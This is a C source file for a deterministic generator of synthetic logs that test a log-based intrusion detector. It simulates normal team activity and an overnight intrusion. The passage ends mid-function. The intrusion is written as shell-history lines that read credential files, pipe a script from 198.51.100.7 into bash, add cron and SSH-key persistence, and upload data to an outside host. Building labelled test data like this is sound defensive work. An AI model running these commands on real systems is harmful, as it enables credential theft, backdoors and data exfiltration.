/* vigil-gen.c - a deterministic workload for the demo, the scenario tests and
 * the benchmarks. Everything comes from one seeded generator, so the same
 * arguments always write the same bytes.
 *
 *   vigil-gen scenario DIR [--days N] [--seed N] [--no-intrusion] [--live SECONDS]
 *                          [--scale K] [--from-day N] [--to-day N] [--rich]
 *       Writes N days of a normal workload (API traffic, audit and egress
 *       records, ssh logins, sudo, shell work, internet background noise) and,
 *       on the last night, an intrusion in the style of Operation Cloud Hopper:
 *       password spray, admin login from a new place at night, recon, privilege
 *       escalation, download-and-run, persistence, credential access, lateral
 *       movement, beaconing, staging and exfiltration. Files:
 *         DIR/auth.log  DIR/app/api.log  DIR/home/<user>/.bash_history
 *       With --live, lines are appended in event-time order over SECONDS of
 *       wall time (normal days fast, the intrusion slower) while vigil tails.
 *       --scale K makes the API traffic K times busier (same users). The whole
 *       workload is always generated (same bytes for the same arguments), but
 *       only days [--from-day, --to-day) are appended: two runs split the
 *       files at a day boundary, e.g. to restart vigil between them.
 *       --rich adds the normal life of a bigger team (see rich_life). Beside
 *       the logs, DIR/labels.tsv says which lines are the intrusion's, when
 *       each step began and ended and which rules detect it (for make eval).
 *   vigil-gen bench DIR [--lines N] [--seed N]
 *       N lines (default 1,000,000) of a realistic mix for throughput runs,
 *       one file per format: DIR/app.log (~150-byte JSON lines, 55%),
 *       DIR/auth.log (sshd/PAM/sudo, 20%), DIR/bash_history (#epoch lines,
 *       15%), DIR/egress.log (logfmt, 10%).
 *   vigil-gen mixed DIR [--lines N] [--seed N]
 *       N lines (default 1,000,000) of mixed logs, ~124 bytes per line: 45% JSON
 *       application lines, 35% auth syslog (RFC 3164: sshd, PAM, sudo, CRON,
 *       su), 20% plain-text application lines, in time order in DIR/mixed.log
 *       and split by kind into DIR/app.log, DIR/auth.log and DIR/plain.log.
 *   vigil-gen flood FILE [--lines N] [--kind ips|users]
 *       N failed ssh logins, each from a new source IP (or for a new user).
 */
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define HOUR 3600LL
#define DAY (24 * HOUR)
/* Monday 2026-11-16 00:00:00 UTC: a fixed start keeps runs reproducible. */
#define START_EPOCH 1794787200LL
#define HOST "web-1"

static uint64_t rng_state = 0x9e3779b97f4a7c15ull;

static uint64_t rnd(void)
{
    uint64_t x = rng_state;
    x ^= x >> 12;
    x ^= x << 25;
    x ^= x >> 27;
    rng_state = x;
    return x * 0x2545f4914f6cdd1dull;
}

static unsigned rndn(unsigned n)
{
    return n ? (unsigned)(rnd() % n) : 0;
}

#define PICK(arr) ((arr)[rndn(sizeof(arr) / sizeof((arr)[0]))])

/* ---- event list: every line of every file, sorted by time before writing ---- */
enum sink { SINK_AUTH, SINK_APP, SINK_HIST_ALICE, SINK_HIST_BOB, SINK_HIST_OPS, SINK__FIXED };
#define SINK_MAX 64        /* the fixed files, then one history per --rich user */

static const char *sink_rel[SINK_MAX] = {
    "auth.log", "app/api.log", "home/alice/.bash_history", "home/bob/.bash_history",
    "home/ops-admin/.bash_history",
};
static int nsinks = SINK__FIXED;

struct ev {
    int64_t t_us;          /* event time, microseconds */
    uint8_t sink;
    bool attack;           /* part of the intrusion (paced slower live) */
    short step;            /* the intrusion step it belongs to, -1 = normal life */
    char *text;            /* line(s) including trailing newline */
};

static int cur_step = -1;  /* set by intrusion() around each step */

static struct ev *evs;
static size_t nevs, capevs;

static void add(int64_t t_s, int64_t frac_us, int s, bool attack, const char *fmt, ...)
    __attribute__((format(printf, 5, 6)));

static void add(int64_t t_s, int64_t frac_us, int s, bool attack, const char *fmt, ...)
{
    char buf[4096];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(buf, sizeof(buf), fmt, ap);
    va_end(ap);
    if (n < 0)
        return;
    if (nevs == capevs) {
        capevs = capevs ? capevs * 2 : 4096;
        evs = realloc(evs, capevs * sizeof(*evs));
        if (!evs) {
            perror("realloc");
            exit(1);
        }
    }
    evs[nevs].t_us = t_s * 1000000 + frac_us;
    evs[nevs].sink = (uint8_t)s;
    evs[nevs].attack = attack;
    evs[nevs].step = (short)(attack ? cur_step : -1);
    evs[nevs].text = strdup(buf);
    nevs++;
}

static void iso(char *out, size_t cap, int64_t t, int64_t us)
{
    time_t tt = (time_t)t;
    struct tm tm;
    gmtime_r(&tt, &tm);
    char b[32];
    strftime(b, sizeof(b), "%Y-%m-%dT%H:%M:%S", &tm);
    snprintf(out, cap, "%s.%06" PRId64 "+00:00", b, us);
}

static unsigned next_pid = 2000;

/* An auth.log line in Debian 12's default (RFC 3339) format. */
static void auth(int64_t t, bool attack, const char *prog, const char *fmt, ...)
    __attribute__((format(printf, 4, 5)));

static void auth(int64_t t, bool attack, const char *prog, const char *fmt, ...)
{
    char msg[2048], when[64];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(msg, sizeof(msg), fmt, ap);
    va_end(ap);
    int64_t us = rndn(1000000);
    iso(when, sizeof(when), t, us);
    unsigned pid = next_pid++;
    if (next_pid > 60000)
        next_pid = 2000;
    if (strcmp(prog, "sudo") == 0 || strncmp(prog, "useradd", 7) == 0 ||
        strncmp(prog, "usermod", 7) == 0)
        add(t, us, SINK_AUTH, attack, "%s " HOST " %s: %s\n", when, prog, msg);
    else
        add(t, us, SINK_AUTH, attack, "%s " HOST " %s[%u]: %s\n", when, prog, pid, msg);
}

static void hist(int64_t t, int s, bool attack, const char *cmd)
{
    add(t, 0, s, attack, "#%" PRId64 "\n%s\n", t, cmd);
}

static void app_json(int64_t t, bool attack, const char *fmt, ...) __attribute__((format(printf, 3, 4)));

static void app_json(int64_t t, bool attack, const char *fmt, ...)
{
    char body[2048], when[64];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(body, sizeof(body), fmt, ap);
    va_end(ap);
    int64_t us = rndn(1000000);
    iso(when, sizeof(when), t, us);
    when[23] = 'Z';   /* millisecond precision, UTC */
    when[24] = 0;
    add(t, us, SINK_APP, attack, "{\"ts\":\"%s\",%s}\n", when, body);
}

/* Sources of internet guessing, written to the labels: their alerts are
 * burst reports, judged apart from false alerts. */
#define BOTS_MAX 4096
static char *bot_src[BOTS_MAX];
static unsigned nbots;

static void bot_note(const char *ip)
{
    for (unsigned i = 0; i < nbots; i++)
        if (strcmp(bot_src[i], ip) == 0)
            return;
    if (nbots < BOTS_MAX)
        bot_src[nbots++] = strdup(ip);
}

/* ---- the normal workload ---- */
static const char *const api_paths[] = {
    "/api/v1/orders", "/api/v1/orders/{id}", "/api/v1/users/me", "/api/v1/cart",
    "/api/v1/products", "/api/v1/products/{id}", "/healthz", "/api/v1/checkout",
};
static const char *const app_users[] = { "alice", "bob", "carol", "dave", "erin", "svc-web" };
static const char *const office_ips[] = { "10.0.0.5", "10.8.0.2" };
static const char *const client_ips[] = { "10.1.4.21", "10.1.4.22", "10.1.7.9", "10.2.0.14" };
static const char *const normal_dst[] = { "api.stripe.com", "s3.eu-west-1.amazonaws.com",
                                          "hooks.slack.com", "api.sendgrid.com" };
/* Free-text messages: a word before and after the number that varies. */
static const char *const templates[][2] = {
    { "cache miss for product", "" }, { "order", "created" }, { "payment authorised for order", "" },
    { "user session refreshed after", "s" }, { "slow query took", "ms" },
};
static const char *const dev_cmds[] = {
    "git status", "git pull --rebase", "make -j4", "ls -la", "cd ~/src/shop",
    "vim app/orders.py", "kubectl get pods -n shop", "kubectl logs deploy/api -n shop --tail=50",
    "docker ps", "grep -rn TODO app/", "less /var/log/app/api.log",
    "curl -s https://api.internal/healthz | jq .", "python3 -m pytest -q", "git log --oneline -5",
    "ssh bastion.internal", "tail -f /var/log/app/api.log", "htop", "df -h",
};
static const char *const ops_cmds[] = {
    "sudo systemctl restart shop-api", "sudo journalctl -u shop-api --since today",
    "kubectl get nodes", "df -h", "free -m", "sudo apt-get update", "uptime",
    "ssh bastion.internal", "kubectl rollout status deploy/api -n shop", "ls /etc/shop",
};
static const char *const spray_users[] = {
    "admin", "test", "oracle", "postgres", "ubuntu", "ops-admin", "alice", "deploy", "git",
    "jenkins", "backup", "support",
};

static int scale = 1;           /* --scale: API traffic density */
static int last_day;            /* index of the last day written */

static bool workhours(int64_t t, int day)
{
    int h = (int)((t % DAY) / HOUR);
    int wd = day % 7;  /* 0 = Monday */
    return wd < 5 && h >= 8 && h < 19;
}

static void normal_day(int day)
{
    int64_t d0 = START_EPOCH + day * DAY;
    bool weekday = day % 7 < 5;

    /* API traffic: busier in working hours, never silent. */
    for (int64_t t_ms = d0 * 1000; t_ms < (d0 + DAY) * 1000;) {
        bool busy = workhours(t_ms / 1000, day);
        t_ms += (busy ? 20000 + rndn(40000) : 90000 + rndn(180000)) / scale;
        int64_t t = t_ms / 1000;
        if (t >= d0 + DAY)
            break;
        unsigned r = rndn(100);
        const char *user = PICK(app_users);
        if (r < 70) {
            const char *path = PICK(api_paths);
            unsigned status = rndn(100) < 97 ? 200 : (rndn(2) ? 404 : 500);
            app_json(t, false,
                     "\"level\":\"%s\",\"msg\":\"request served\",\"method\":\"%s\",\"path\":\"%s\","
                     "\"status\":%u,\"user\":\"%s\",\"latency_ms\":%u,\"src_ip\":\"%s\","
                     "\"bytes\":%u",
                     status == 500 ? "error" : "info", rndn(3) ? "GET" : "POST", path, status, user,
                     5 + rndn(120), PICK(client_ips), 200 + rndn(4000));
        } else if (r < 85) {
            unsigned k = rndn(sizeof(templates) / sizeof(templates[0]));
            app_json(t, false, "\"level\":\"info\",\"msg\":\"%s %u %s\"", templates[k][0],
                     1000 + rndn(90000), templates[k][1]);
        } else if (r < 93) {
            static const char *const actions[] = { "GetObject", "ListBucket", "PutObject", "GetParameter" };
            app_json(t, false,
                     "\"identity\":\"svc-web\",\"action\":\"%s\",\"src_ip\":\"10.1.4.21\","
                     "\"result\":\"success\",\"resource\":\"arn:aws:s3:::shop-assets\"",
                     PICK(actions));
        } else {
            app_json(t, false, "\"dst_host\":\"%s\",\"dst_port\":443,\"bytes_out\":%u,\"bytes_in\":%u",
                     PICK(normal_dst), 500 + rndn(3000), 1000 + rndn(20000));
        }
    }

    /* Staff logins, sudo and shell work on weekdays. */
    if (weekday) {
        struct { const char *user; enum sink s; const char *const *cmds; size_t n; } staff[] = {
            { "alice", SINK_HIST_ALICE, dev_cmds, sizeof(dev_cmds) / sizeof(*dev_cmds) },
            { "bob", SINK_HIST_BOB, dev_cmds, sizeof(dev_cmds) / sizeof(*dev_cmds) },
            { "ops-admin", SINK_HIST_OPS, ops_cmds, sizeof(ops_cmds) / sizeof(*ops_cmds) },
        };
        for (size_t i = 0; i < 3; i++) {
            int64_t t = d0 + 8 * HOUR + 30 * 60 + rndn(90 * 60);
            const char *ip = office_ips[rndn(2)];
            unsigned port = 40000 + rndn(20000);
            auth(t, false, "sshd", "Accepted publickey for %s from %s port %u ssh2: ED25519 SHA256:%s",
                 staff[i].user, ip, port, i == 2 ? "Qm9wcy1hZG1pbi1rZXktZmluZ2VycHJpbnQ" : "dXNlci1rZXktZmluZ2VycHJpbnQtZm9yLWRldg");
            auth(t, false, "sshd", "pam_unix(sshd:session): session opened for user %s(uid=%u) by (uid=0)",
                 staff[i].user, 1000 + (unsigned)i);
            int64_t tt = t + 60;
            unsigned ncmd = 10 + rndn(20);
            for (unsigned k = 0; k < ncmd; k++) {
                tt += 60 + rndn(900);
                const char *cmd = staff[i].cmds[rndn((unsigned)staff[i].n)];
                hist(tt, staff[i].s, false, cmd);
                if (strncmp(cmd, "sudo ", 5) == 0)
                    auth(tt, false, "sudo", "%s : TTY=pts/%u ; PWD=/home/%s ; USER=root ; COMMAND=%s",
                         staff[i].user, (unsigned)i, staff[i].user,
                         strstr(cmd, "systemctl") ? "/usr/bin/systemctl restart shop-api"
                         : strstr(cmd, "journalctl") ? "/usr/bin/journalctl -u shop-api --since today"
                                                     : "/usr/bin/apt-get update");
            }
            /* The staff's own API calls (cloud console, CLI) from the office. */
            static const char *const ops_api[] = { "DescribeInstances", "ListBuckets", "GetObject",
                                                   "GetParameter", "DescribeDBInstances" };
            static const char *const dev_api[] = { "GetObject", "PutObject", "ListBucket",
                                                   "GetParameter" };
            if (i != 1) {
                unsigned ncall = 4 + rndn(8);
                for (unsigned k = 0; k < ncall; k++) {
                    int64_t tc = t + 120 + rndn(7 * HOUR);
                    app_json(tc, false,
                             "\"identity\":\"%s\",\"action\":\"%s\",\"src_ip\":\"%s\","
                             "\"result\":\"success\"",
                             staff[i].user, i == 2 ? PICK(ops_api) : PICK(dev_api), ip);
                }
            }
            int64_t out = d0 + 17 * HOUR + rndn(2 * HOUR);
            auth(out, false, "sshd", "pam_unix(sshd:session): session closed for user %s", staff[i].user);
        }
        /* Last day: bob works from the new office (a network never seen),
         * in working hours, with his key: a benign rarity. */
        if (day == last_day) {
            int64_t t = d0 + 9 * HOUR + 40 * 60 + rndn(600);
            auth(t, false, "sshd", "Accepted publickey for bob from 10.9.0.3 port %u ssh2: ED25519 SHA256:%s",
                 40000 + rndn(20000), "dXNlci1rZXktZmluZ2VycHJpbnQtZm9yLWRldg");
        }
        /* A typo now and then: one failure, then success. */
        if (rndn(3) == 0) {
            int64_t t = d0 + 13 * HOUR + rndn(HOUR);
            auth(t, false, "sshd", "Failed password for bob from 10.0.0.5 port %u ssh2", 40000 + rndn(20000));
            auth(t + 5, false, "sshd", "Accepted password for bob from 10.0.0.5 port %u ssh2", 40000 + rndn(20000));
        }
    }
    /* The deploy robot, every 4 hours, every day, with its key. */
    for (int k = 0; k < 6; k++) {
        int64_t t = d0 + k * 4 * HOUR + 300 + rndn(60);
        auth(t, false, "sshd", "Accepted publickey for deploy from 10.2.0.14 port %u ssh2: RSA SHA256:ZGVwbG95LXJvYm90LWtleQ",
             40000 + rndn(20000));
        auth(t + 20, false, "sshd", "pam_unix(sshd:session): session closed for user deploy");
    }
    /* Internet background noise: a few scanners an hour, quickly gone. */
    for (int k = 0; k < 12; k++) {
        int64_t t = d0 + rndn(DAY);
        char ip[32];
        snprintf(ip, sizeof(ip), "%u.%u.%u.%u", 45 + rndn(150), rndn(256), rndn(256), 1 + rndn(254));
        bot_note(ip);
        const char *u = PICK(spray_users);
        auth(t, false, "sshd", "Invalid user %s from %s port %u", u, ip, 30000 + rndn(30000));
        auth(t + 1, false, "sshd", "Connection closed by invalid user %s %s port %u [preauth]", u, ip,
             30000 + rndn(30000));
    }
}

/* ---- the intrusion ---- */
static void intrusion(int day)
{
    int64_t d0 = START_EPOCH + day * DAY;
    const char *atk = "198.51.100.7";
    const char *spray = "203.0.113.45";
    int64_t t = d0 + 1 * HOUR + 50 * 60;

    cur_step = 0;
    /* 01:50 password spraying: one source, many users, a few tries each. */
    for (int round = 0; round < 2; round++)
        for (size_t i = 0; i < sizeof(spray_users) / sizeof(*spray_users); i++) {
            t += 2 + rndn(4);
            const char *u = spray_users[i];
            bool real = strcmp(u, "ops-admin") == 0 || strcmp(u, "alice") == 0 || strcmp(u, "deploy") == 0;
            if (real)
                auth(t, true, "sshd", "Failed password for %s from %s port %u ssh2", u, spray, 50000 + rndn(9000));
            else
                auth(t, true, "sshd", "Failed password for invalid user %s from %s port %u ssh2", u, spray,
                     50000 + rndn(9000));
        }
    auth(t + 2, true, "sshd", "PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=ops-admin", spray);

    cur_step = 1;
    /* 03:10 the stolen password works, from a new place. */
    t = d0 + 3 * HOUR + 10 * 60;
    auth(t - 40, true, "sshd", "Failed password for ops-admin from %s port 51122 ssh2", atk);
    auth(t, true, "sshd", "Accepted password for ops-admin from %s port 51123 ssh2", atk);
    auth(t, true, "sshd", "pam_unix(sshd:session): session opened for user ops-admin(uid=1002) by (uid=0)");

    cur_step = 2;
    static const char *const recon[] = {
        "whoami", "id", "uname -a", "hostname", "cat /etc/passwd", "ip a", "ss -tlnp", "ps aux",
        "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "find / -name '*.pem' -o -name id_rsa 2>/dev/null",
    };
    for (size_t i = 0; i < sizeof(recon) / sizeof(*recon); i++) {
        t += 8 + rndn(20);
        cur_step = i < 8 ? 2 : i == 8 ? 3 : 4;
        hist(t, SINK_HIST_OPS, true, recon[i]);
    }
    cur_step = 5;
    /* privilege escalation */
    t += 30;
    hist(t, SINK_HIST_OPS, true, "sudo -i");
    auth(t, true, "sudo", "ops-admin : TTY=pts/3 ; PWD=/home/ops-admin ; USER=root ; COMMAND=/bin/bash");
    auth(t, true, "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by ops-admin(uid=1002)");
    cur_step = 6;
    /* credential access */
    t += 20;
    hist(t, SINK_HIST_OPS, true, "cat ~/.aws/credentials");
    t += 15;
    hist(t, SINK_HIST_OPS, true, "cat /etc/shadow");
    cur_step = 7;
    /* download and run a remote access tool */
    t += 40;
    hist(t, SINK_HIST_OPS, true, "curl -s http://198.51.100.7/i.sh | bash");
    t += 25;
    cur_step = 8;
    hist(t, SINK_HIST_OPS, true, "wget -q http://198.51.100.7/agent -O /dev/shm/.agent");
    t += 5;
    hist(t, SINK_HIST_OPS, true, "chmod +x /dev/shm/.agent && /dev/shm/.agent &");
    cur_step = 9;
    /* persistence */
    t += 30;
    hist(t, SINK_HIST_OPS, true, "(crontab -l; echo '*/5 * * * * /dev/shm/.agent') | crontab -");
    t += 20;
    cur_step = 10;
    hist(t, SINK_HIST_OPS, true, "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHx attacker@kali' >> ~/.ssh/authorized_keys");
    t += 20;
    cur_step = 11;
    auth(t, true, "useradd", "new user: name=svc-backup, UID=1005, GID=1005, home=/home/svc-backup, shell=/bin/bash, from=/dev/pts/3");
    auth(t + 2, true, "usermod", "add 'svc-backup' to group 'sudo'");
    cur_step = 12;
    /* API abuse with the stolen identity */
    static const char *const api[] = { "ListUsers", "ListSecrets", "GetSecretValue", "CreateAccessKey",
                                       "PutUserPolicy", "ListBuckets" };
    for (size_t i = 0; i < sizeof(api) / sizeof(*api); i++) {
        t += 10 + rndn(10);
        app_json(t, true, "\"identity\":\"ops-admin\",\"action\":\"%s\",\"src_ip\":\"%s\",\"result\":\"success\"",
                 api[i], atk);
    }
    for (int i = 0; i < 12; i++) {
        t += 2;
        app_json(t, true, "\"identity\":\"ops-admin\",\"action\":\"GetSecretValue\",\"src_ip\":\"%s\","
                 "\"result\":\"AccessDenied\",\"resource\":\"prod/db/%d\"", atk, i);
    }
    cur_step = 13;
    /* lateral movement */
    t += 60;
    hist(t, SINK_HIST_OPS, true, "ssh 10.0.3.17");
    t += 30;
    cur_step = 14;
    hist(t, SINK_HIST_OPS, true, "scp /dev/shm/.agent db-2.internal:/tmp/");
    cur_step = 15;
    /* command and control: a beacon every ~60 s with +-10% jitter */
    int64_t bt = t;
    for (int i = 0; i < 40; i++) {
        bt += 54 + rndn(13);
        app_json(bt, true, "\"dst_host\":\"update-check.cdn-g00gle.com\",\"dst_port\":443,\"bytes_out\":%u,\"bytes_in\":%u",
                 300 + rndn(60), 500 + rndn(100));
    }
    cur_step = 16;
    /* collection and exfiltration */
    t += 600;
    hist(t, SINK_HIST_OPS, true, "tar czf /dev/shm/.d.tgz /var/lib/shop/data /etc/shop");
    t += 40;
    hist(t, SINK_HIST_OPS, true, "zip -P hunter2 -r /dev/shm/.x.zip /home/ops-admin/exports");
    t += 40;
    cur_step = 17;
    hist(t, SINK_HIST_OPS, true, "curl -s -T /dev/shm/.d.tgz https://files.transfer-drop.io/upload");
    app_json(t + 1, true, "\"dst_host\":\"files.transfer-drop.io\",\"dst_port\":443,\"bytes_out\":%u,\"bytes_in\":512",
             850000000u);
    app_json(t + 2, true, "\"level\":\"info\",\"msg\":\"bulk export of 182000 customer records by ops-admin\",\"user\":\"ops-admin\",\"bytes\":412000000");
    cur_step = 18;
    /* defense evasion */
    t += 30;
    hist(t, SINK_HIST_OPS, true, "history -c");
    t += 5;
    hist(t, SINK_HIST_OPS, true, "unset HISTFILE");
    auth(t + 60, true, "sshd", "pam_unix(sshd:session): session closed for user ops-admin");
    cur_step = -1;
}


/* ---- --rich: the normal life of a bigger team ----
 * On top of the classic workload: 12-22 people (developers, admins, new hires
 * who start mid-week), trips from hotels, phones and VPNs (a new network each
 * time), admins on call at night, copies among internal hosts with scp and
 * rsync, CI identities that call new actions after a release, password
 * rotation with chpasswd, cron edits, new SaaS destinations, and bots that
 * guess common names all day from many networks and from shared NAT
 * addresses that people also log in from. Who does what, when and from where
 * comes from the seed, so each seed is a different week. */
enum role { ROLE_DEV, ROLE_ADMIN };

struct person {
    char name[24];
    enum role role;
    int sink;
    char office[24], home[24];
    unsigned uid, start_day, key;
};

#define PEOPLE_MAX 24
static struct person people[PEOPLE_MAX];
static unsigned npeople;

static const char *const name_pool[] = {
    "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "kofi", "lena", "mei",
    "niaj", "olivia", "omar", "peggy", "priya", "rupert", "sybil", "trent", "victor", "walter",
    "yuki", "zoe", "hana",
};
static const char *const internal_hosts[] = {
    "backup-1", "build-1", "db-1.internal", "db-2.internal", "app-2.internal", "10.0.3.21",
    "monitor-1", "build-2",
};
static const char *const rich_dev_cmds[] = {
    "git status", "git pull --rebase", "git push origin HEAD", "make -j4", "make test", "ls -la",
    "cd ~/src/shop", "vim app/orders.py", "kubectl get pods -n shop", "docker ps",
    "docker build -t shop-api:dev .", "grep -rn TODO app/", "less /var/log/app/api.log",
    "python3 -m pytest -q", "git log --oneline -5", "tail -f /var/log/app/api.log", "htop",
    "df -h", "npm ci", "npm run build", "pip install -r requirements.txt", "go test ./...",
    "curl -s https://api.internal/healthz | jq .", "ssh build-1", "journalctl --user -n 50",
    "kubectl describe pod api-7d9f -n shop", "git checkout -b fix/cart-total", "find . -name '*.pyc' -delete",
    "tar czf /tmp/logs-$(date +%F).tgz /var/log/app", "psql -h db-1.internal -U shop -c 'select 1'",
    "curl -sO https://github.com/cli/cli/releases/download/v2.40.0/gh_2.40.0_linux_amd64.tar.gz",
    "ps aux | grep api", "env | grep SHOP_", "whoami", "ip a", "cat /etc/os-release",
};
static const char *const rich_admin_cmds[] = {
    "sudo systemctl restart shop-api", "sudo journalctl -u shop-api --since today",
    "kubectl get nodes", "df -h", "free -m", "sudo apt-get update", "uptime", "ssh bastion.internal",
    "kubectl rollout status deploy/api -n shop", "ls /etc/shop", "sudo systemctl status nginx",
    "sudo tail -n 100 /var/log/nginx/error.log", "sudo ss -tlnp", "sudo lsof -i :443",
    "sudo apt-get upgrade -y", "sudo needrestart -r l", "crontab -l", "sudo crontab -u backup -l",
    "sudo cat /etc/sudoers.d/ops", "id", "last -n 20", "sudo du -sh /var/lib/docker",
};
static const char *const bot_names[] = {
    "admin", "test", "oracle", "postgres", "ubuntu", "user", "guest", "ftp", "pi", "git",
    "deploy", "jenkins", "support", "root", "mysql", "hadoop", "www-data", "minecraft", "ansible",
    "centos", "ec2-user", "debian", "dev", "tomcat",
};
static const char *const console_actions[] = {
    "ListUsers", "GetRole", "ListRoles", "DescribeSecurityGroups", "ListAccessKeys",
    "GetAccountSummary", "DescribeVpcs", "ListPolicies", "GetBucketPolicy",
};
static const char *const ci_usual[] = { "GetObject", "PutObject", "DescribeServices", "UpdateService",
                                        "GetAuthorizationToken" };
static const char *const ci_release[] = {
    "RegisterTaskDefinition", "CreateInvalidation", "PutParameter", "UpdateFunctionCode",
    "CreateLogGroup", "TagResource", "PublishLayerVersion", "PutRetentionPolicy",
};
static const char *const saas_new[] = {
    "api.datadoghq.com", "sentry.io", "api.github.com", "registry.npmjs.org", "pypi.org",
    "objects.githubusercontent.com", "api.pagerduty.com", "login.microsoftonline.com",
};
static const char *const fps[] = { "dXNlci1rZXktZmluZ2VycHJpbnQtZm9yLWRldg", "a2V5LW9mLXRoZS10ZWFt",
                                   "bGFwdG9wLWtleS0yMDI2", "eXViaWtleS1mb3Itc3Nv" };

static void rand_public_ip(char *out, size_t cap)
{
    static const unsigned firsts[] = { 31, 37, 46, 62, 77, 78, 85, 91, 109, 141, 176, 178, 185, 188, 193, 212, 217 };
    snprintf(out, cap, "%u.%u.%u.%u", PICK(firsts), rndn(256), rndn(256), 1 + rndn(254));
}

/* A network a person is on while away: hotel wifi, a phone's carrier NAT or
 * a VPN exit never used before. */
static void trip_ip(char *out, size_t cap)
{
    unsigned k = rndn(3);
    if (k == 0)
        rand_public_ip(out, cap);
    else if (k == 1)
        snprintf(out, cap, "100.%u.%u.%u", 64 + rndn(64), rndn(256), 1 + rndn(254));
    else
        snprintf(out, cap, "10.8.%u.%u", 1 + rndn(250), 2 + rndn(250));
}

static void people_init(int days)
{
    static const struct { const char *name; enum role role; int sink; } fixed[] = {
        { "alice", ROLE_DEV, SINK_HIST_ALICE }, { "bob", ROLE_DEV, SINK_HIST_BOB },
        { "ops-admin", ROLE_ADMIN, SINK_HIST_OPS },
    };
    unsigned want = 12 + rndn(11);
    bool used[sizeof(name_pool) / sizeof(*name_pool)] = { false };
    for (unsigned i = 0; i < want && i < PEOPLE_MAX; i++) {
        struct person *p = &people[npeople];
        memset(p, 0, sizeof(*p));
        if (i < 3) {
            snprintf(p->name, sizeof(p->name), "%s", fixed[i].name);
            p->role = fixed[i].role;
            p->sink = fixed[i].sink;
        } else {
            unsigned k;
            do
                k = rndn(sizeof(name_pool) / sizeof(*name_pool));
            while (used[k]);
            used[k] = true;
            snprintf(p->name, sizeof(p->name), "%s", name_pool[k]);
            p->role = rndn(4) == 0 ? ROLE_ADMIN : ROLE_DEV;
            if (nsinks >= SINK_MAX)
                break;
            char rel[96];
            snprintf(rel, sizeof(rel), "home/%s/.bash_history", p->name);
            sink_rel[nsinks] = strdup(rel);
            p->sink = nsinks++;
            /* new hires: their first day is mid-week */
            if (rndn(6) == 0 && days > 3)
                p->start_day = 2 + rndn((unsigned)days - 3);
        }
        p->uid = 1000 + i;
        p->key = rndn(4);
        snprintf(p->office, sizeof(p->office), "10.%u.%u.%u", rndn(2) ? 0u : 8u, rndn(3), 2 + rndn(250));
        rand_public_ip(p->home, sizeof(p->home));
        npeople++;
    }
}

static void login(int64_t t, const struct person *p, const char *ip)
{
    auth(t, false, "sshd", "Accepted publickey for %s from %s port %u ssh2: ED25519 SHA256:%s", p->name,
         ip, 40000 + rndn(20000), fps[p->key]);
    auth(t, false, "sshd", "pam_unix(sshd:session): session opened for user %s(uid=%u) by (uid=0)",
         p->name, p->uid);
}

/* A command in a person's history, and sudo's line for it. */
static void run(int64_t t, const struct person *p, const char *cmd, const char *sudo_cmd)
{
    hist(t, p->sink, false, cmd);
    if (sudo_cmd)
        auth(t, false, "sudo", "%s : TTY=pts/%u ; PWD=/home/%s ; USER=root ; COMMAND=%s", p->name,
             rndn(8), p->name, sudo_cmd);
}

/* sudo's COMMAND= for a "sudo ..." history line, or NULL. */
static const char *sudo_of(const char *cmd, char *buf, size_t cap)
{
    if (strncmp(cmd, "sudo ", 5) != 0)
        return NULL;
    snprintf(buf, cap, "/usr/bin/%s", cmd + 5);
    return buf;
}

static void workday(const struct person *p, int64_t d0, const char *ip, int64_t t)
{
    char sb[256], c[256];
    login(t, p, ip);
    const char *const *cmds = p->role == ROLE_ADMIN ? rich_admin_cmds : rich_dev_cmds;
    unsigned ncmds = p->role == ROLE_ADMIN ? sizeof(rich_admin_cmds) / sizeof(*rich_admin_cmds)
                                           : sizeof(rich_dev_cmds) / sizeof(*rich_dev_cmds);
    unsigned n = 8 + rndn(25);
    int64_t tt = t + 30;
    for (unsigned k = 0; k < n; k++) {
        tt += 30 + rndn(900);
        const char *cmd = cmds[rndn(ncmds)];
        run(tt, p, cmd, sudo_of(cmd, sb, sizeof(sb)));
    }
    if (p->role == ROLE_ADMIN) {
        /* copies among internal hosts */
        unsigned ncp = rndn(4);
        for (unsigned k = 0; k < ncp; k++) {
            tt += 60 + rndn(600);
            const char *h = PICK(internal_hosts);
            switch (rndn(5)) {
            case 0: snprintf(c, sizeof(c), "scp /var/backups/shop-%u.tgz %s:/srv/backups/", 20261100 + rndn(40), h); break;
            case 1: snprintf(c, sizeof(c), "rsync -az /etc/shop/ %s:/etc/shop/", h); break;
            case 2: snprintf(c, sizeof(c), "scp %s:/var/log/syslog /tmp/syslog-%s", h, h); break;
            case 3: snprintf(c, sizeof(c), "rsync -av --progress ./release/ %s:/srv/release/", h); break;
            default: snprintf(c, sizeof(c), "ssh %s", h); break;
            }
            run(tt, p, c, NULL);
        }
        /* cron edits */
        if (rndn(5) == 0) {
            tt += 120;
            switch (rndn(3)) {
            case 0: run(tt, p, "crontab -e", NULL); break;
            case 1: run(tt, p, "sudo crontab -u backup -e", "/usr/bin/crontab -u backup -e"); break;
            default:
                snprintf(c, sizeof(c), "(crontab -l; echo '%u %u * * * /usr/local/bin/%s') | crontab -",
                         rndn(60), rndn(6), rndn(2) ? "backup.sh" : "rotate-logs.sh");
                run(tt, p, c, NULL);
            }
        }
        /* a first console action now and then */
        if (rndn(6) == 0)
            app_json(tt + 30, false,
                     "\"identity\":\"%s\",\"action\":\"%s\",\"src_ip\":\"%s\",\"result\":\"success\"",
                     p->name, PICK(console_actions), ip);
    } else if (rndn(4) == 0) {
        tt += 60 + rndn(600);
        snprintf(c, sizeof(c), "scp dist/shop-%u.tar.gz %s:/tmp/", rndn(100), rndn(2) ? "build-1" : "build-2");
        run(tt, p, c, NULL);
    }
    for (unsigned k = 0, m = 2 + rndn(6); k < m; k++)
        app_json(t + 120 + rndn(6 * HOUR), false,
                 "\"identity\":\"%s\",\"action\":\"%s\",\"src_ip\":\"%s\",\"result\":\"success\"", p->name,
